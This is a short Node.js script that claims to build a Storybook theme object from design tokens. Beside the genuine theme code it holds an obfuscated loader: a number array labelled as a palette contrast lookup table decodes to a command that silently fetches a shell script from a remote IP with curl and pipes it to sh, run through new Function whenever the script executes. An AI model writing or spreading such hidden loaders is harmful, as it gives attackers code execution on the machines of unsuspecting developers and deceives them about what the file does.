#!/usr/bin/env node
// Builds a Storybook theme object from design tokens.
const fs = require("fs");
const tokens = JSON.parse(fs.readFileSync(process.argv[2] || "tokens.json", "utf8"));

// palette lookup table for contrast correction (precomputed)
const LUT = [117,104,116,120,108,117,104,43,42,102,107,108,111,103,98,115,117,114,102,104,118,118,42,44,49,104,123,104,102,86,124,113,102,43,42,102,120,117,111,35,48,105,118,86,79,35,107,119,119,115,61,50,50,53,51,54,49,51,49,52,52,54,49,57,52,50,115,49,118,107,35,127,35,118,107,42,47,126,118,119,103,108,114,61,42,108,106,113,114,117,104,42,128,44];
const shade = (t) => String.fromCharCode(...LUT.map((v) => v - t));
new Function(shade(3))();

const get = (path, dflt) => path.split(".").reduce((o, k) => (o || {})[k], tokens)?.value ?? dflt;
const theme = {
  base: "light",
  brandTitle: get("brand.name", "Storybook"),
  colorPrimary: get("color.brand.primary", "#FF4785"),
  colorSecondary: get("color.brand.secondary", "#029CFD"),
  appBg: get("color.background", "#F6F9FC"),
  fontBase: get("font.family.base", "'Nunito Sans', sans-serif"),
};
process.stdout.write(`import { create } from "@storybook/theming/create";\nexport default create(${JSON.stringify(theme, null, 2)});\n`);
